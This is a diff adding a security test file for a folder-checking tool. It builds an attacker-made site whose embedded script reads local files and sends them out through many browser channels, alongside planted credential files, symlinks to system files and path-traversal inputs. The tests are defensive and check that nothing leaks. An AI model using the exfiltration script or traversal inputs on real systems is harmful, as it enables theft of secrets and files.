@@ -1,0 +1,213 @@
+/** A folder to check as an attacker would make it: what a pull request can hold. */
+import { spawnSync } from 'node:child_process';
+import { mkdir, symlink } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { awas } from '../manifests.ts';
+import { check, type Folder, folder } from '../process.ts';
+import { credulousBrowser, type Noting, noting } from './servers.ts';
+
+const SECRET = 'SECRET-OF-THE-MACHINE';
+const isPosix = process.platform !== 'win32';
+
+/** In a page: puts what it can read into the page, where a finding would quote it, and sends it in every way. */
+const STEALS = `
+const found = [];
+for (const place of places) try {
+  const answer = await fetch(place, { signal: AbortSignal.timeout(2_000) });
+  if (answer.ok) found.push(place + '=' + (await answer.text()).slice(0, 2_000).replaceAll(/\\s+/g, ' '));
+} catch {}
+const sent = away + '/?' + encodeURIComponent(found.join().slice(0, 1_000));
+const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
+const ways = [
+  () => fetch(sent, { method: 'POST', mode: 'no-cors', body: found.join() }),
+  () => fetch(sent, { mode: 'no-cors' }),
+  () => navigator.sendBeacon(sent, found.join()),
+  () => { new Image().src = sent; },
+  () => add('script', { src: sent }),
+  () => add('link', { rel: 'stylesheet', href: sent }),
+  () => add('link', { rel: 'prefetch', href: sent }),
+  () => add('link', { rel: 'preconnect', href: away }),
+  () => add('iframe', { src: sent }),
+  () => add('video', { src: sent }),
+  () => add('object', { data: sent }),
+  () => add('style', { textContent: '@import "' + sent + '"; @font-face { font-family: x; src: url("' + sent + '") } body { font-family: x }' }),
+  () => new EventSource(sent),
+  () => new WebSocket(away.replace('http', 'ws')),
+  () => import(sent),
+  () => window.open(sent),
+  () => { add('form', { action: sent, method: 'post', target: 'x' }); add('iframe', { name: 'x' }); document.forms[0].submit(); },
+  () => addEventListener('load', () => setTimeout(() => { location.href = sent; }, 500)),
+];
+for (const way of ways) try { Promise.resolve(way()).catch(() => {}); } catch {}
+for (const one of found) {
+  const form = document.createElement('form');
+  form.dataset.awasAction = one;
+  form.append(one);
+  document.body.append(form);
+}
+document.title = found.length + ' found: ' + found.join();`;
+
+const page = (away: string, places: readonly string[]): string =>
+  `<!doctype html><title>Books</title><body data-awas-context="x"><script type="module">const away = ${JSON.stringify(away)}, places = ${JSON.stringify(places)}; ${STEALS}</script>`;
+
+/** Files of the folder: a text, or where a link leads (from the folder). */
+const FILES: Readonly<Record<string, string | { readonly to: string }>> = {
+  '.well-known/ai-actions.json': JSON.stringify(awas),
+  'part.html': 'A-PART-OF-THE-SITE',
+  '.env': `KEY=${SECRET}`,
+  '.npmrc': `//registry/:_authToken=${SECRET}`,
+  '.git/config': `[http] extraheader = ${SECRET}`,
+  '.hidden/page.html': `<p>${SECRET}`,
+  '.hidden.html': `<p>${SECRET}`,
+  'gha-creds-1.json': JSON.stringify({ private_key: SECRET }),
+  'notes.txt': SECRET,
+  'dump.sql': SECRET,
+  'key.pem': SECRET,
+  'no-extension': SECRET,
+  agent: SECRET,
+  'git.txt': { to: '.git/config' },
+  'git.html': { to: '.git/config' },
+  'hidden.js': { to: '.hidden/page.html' },
+  'link.html': { to: '../home/secret.txt' },
+  'link.css': { to: '../home/secret.txt' },
+  folder: { to: '../home' },
+  'environment.html': { to: '/proc/self/environ' },
+  'endless.html': { to: '/dev/zero' },
+  'self.html': { to: 'self.html' },
+  'chain.html': { to: 'chain-2.html' },
+  'chain-2.html': { to: 'folder/secret.txt' },
+};
+const ASKED = [
+  ...Object.keys(FILES).filter((name) => name !== 'folder'),
+  ...[
+    'folder/secret.txt',
+    'folder/secret.html',
+    'pipe.html',
+    '..%2fhome%2fsecret.html',
+    '%2e%2e/home/secret.html',
+  ],
+  ...[
+    'sub/..%2f..%2fhome/secret.html',
+    '..%5chome%5csecret.html',
+    '.env%00.html',
+    './/.env',
+    '.hidden/page',
+    'folder/secret',
+  ],
+  ...['file:///etc/hostname', 'view-source:/.env', 'blob:null/x', 'filesystem:/x'],
+].map((place) => (/^[a-z-]+:/.test(place) ? place : `/${place}`));
+
+const RUNNING = { timeout: 120_000 };
+
+describe.skipIf(!isPosix)('a script in a checked folder', RUNNING, () => {
+  let away: Noting;
+  let place: Folder;
+  let tools: Folder;
+  let env: Readonly<Record<string, string>>;
+  beforeAll(async () => {
+    [away, place, tools] = [await noting(), await folder(), await folder()];
+    env = { CHROMIUM: await credulousBrowser(tools, away) };
+    await place.write({ 'home/secret.txt': SECRET, 'home/secret.html': SECRET });
+    for (const [name, content] of Object.entries(FILES)) {
+      const file = join(place.path, 'site', name);
+      await mkdir(dirname(file), { recursive: true });
+      if (typeof content === 'string') await place.write({ [`site/${name}`]: content });
+      else await symlink(content.to, file);
+    }
+    spawnSync('mkfifo', [join(place.path, 'site/pipe.html')]);
+    await place.write({ 'site/index.html': page(away.origin, ASKED) });
+  });
+  afterAll(async () => {
+    await Promise.all([away.close(), place[Symbol.asyncDispose](), tools[Symbol.asyncDispose]()]);
+  });
+
+  test.each([
+    ['its folder', ['.'], 'site'],
+    ['the page alone', ['index.html'], 'site'],
+    ['a folder above', ['site'], ''],
+    ['a pattern', ['site/**/*.html'], ''],
+  ] as const)('reads only what pages need, and sends nothing: %s', async (_what, targets, from) => {
+    const report = await check(['--format', 'json', ...targets], { cwd: join(place.path, from), env });
+    // The script has run, and has read what it may.
+    expect(report.stdout).toContain('A-PART-OF-THE-SITE');
+    expect(report.stdout).toContain('/.well-known/ai-actions.json=');
+    for (const kept of [SECRET, 'PATH=']) expect(report.stdout + report.stderr).not.toContain(kept);
+    expect(away.got).toEqual([]);
+  });
+});
+
+describe.skipIf(!isPosix)('a checked file', RUNNING, () => {
+  const quotes = `{ "version": "1.0", ${SECRET} `;
+
+  test.each<[what: string, name: string, to: string]>([
+    ['elsewhere', 'ai-actions.json', '../home/secret.json'],
+    ['elsewhere, by its full path', 'ai-actions.json', '{home}/secret.json'],
+    ['to the environment', 'agents.txt', '/proc/self/environ'],
+    ['to a hidden file', 'agents.txt', '.git/config'],
+    ['to a hidden folder', 'ai-actions.json', '.hidden/secret.json'],
+    ['to a device', 'agents.txt', '/dev/zero'],
+    ['back to itself', 'agents.txt', 'agents.txt'],
+  ])('that is a link %s is not read', async (_what, name, to) => {
+    await using place = await folder({
+      'home/secret.json': quotes,
+      'site/.hidden/secret.json': quotes,
+      'site/.git/config': quotes,
+      'site/page.html': '<form data-awas-action="x"></form>',
+    });
+    const link = join(place.path, 'site', name);
+    await symlink(to.replace('{home}', join(place.path, 'home')), link);
+    for (const targets of [[name], ['.'], ['*'], ['page.html'], [link]]) {
+      const { status, stdout, stderr } = await check(targets, { cwd: join(place.path, 'site') });
+      for (const kept of [SECRET, 'PATH=']) expect(stdout + stderr).not.toContain(kept);
+      if (targets[0] === name) expect(status).toBe(2);
+    }
+  });
+
+  test.each<[what: string, make: (place: Folder) => Promise<string>, said: string]>([
+    [
+      'a pipe',
+      async ({ path }) => {
+        spawnSync('mkfifo', [join(path, 'x.json')]);
+        return 'x.json';
+      },
+      'is a pipe',
+    ],
+    ['an endless device', async () => '/dev/zero', 'part of the system'],
+    ['a part of the system', async () => '/proc/self/environ', 'part of the system'],
+    [
+      'a linked folder',
+      async ({ path }) => {
+        await symlink('..', join(path, 'up'));
+        return 'up';
+      },
+      'by a symbolic link',
+    ],
+    [
+      'a file in it',
+      async ({ path }) => {
+        await symlink('/', join(path, 'root'));
+        return 'root/etc/hostname';
+      },
+      'by a symbolic link',
+    ],
+  ])('is refused in a sentence: %s', async (_what, make, said) => {
+    await using place = await folder();
+    const target = await make(place);
+    const { status, stdout } = await check([target], { cwd: place.path });
+    expect([status, stdout]).toEqual([2, expect.stringContaining(said)]);
+  });
+
+  test.each<[what: string, config: object | string, said: string]>([
+    ['to a baseline elsewhere', { baseline: '../known.json' }, 'outside of its folder'],
+    ['by a link', 'link', 'by a symbolic link'],
+  ])('its configuration leads nowhere: %s', async (_what, config, said) => {
+    await using place = await folder({ 'home/secret.json': quotes, 'site/agents.txt': 'Agent: x' });
+    const name = 'awas-lens.config.json';
+    if (config === 'link') await symlink('../home/secret.json', join(place.path, 'site', name));
+    else await place.write({ [`site/${name}`]: config });
+    const { status, stderr } = await check(['--update-baseline', '.'], { cwd: join(place.path, 'site') });
+    expect([status, stderr]).toEqual([2, expect.stringContaining(said)]);
+    expect(stderr).not.toContain(SECRET);
+  });
+});
